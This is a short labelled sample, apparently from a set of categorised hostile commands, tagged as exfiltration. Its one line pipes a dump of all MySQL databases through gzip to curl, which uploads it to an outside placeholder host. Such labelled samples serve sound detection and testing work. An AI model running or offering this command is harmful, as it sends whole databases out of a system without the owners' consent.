# description: Dumps all MySQL databases and uploads them to an outside URL.
# family: exfiltration
mysqldump --all-databases --single-transaction | gzip | curl -s -T - https://example.com/dump.sql.gz
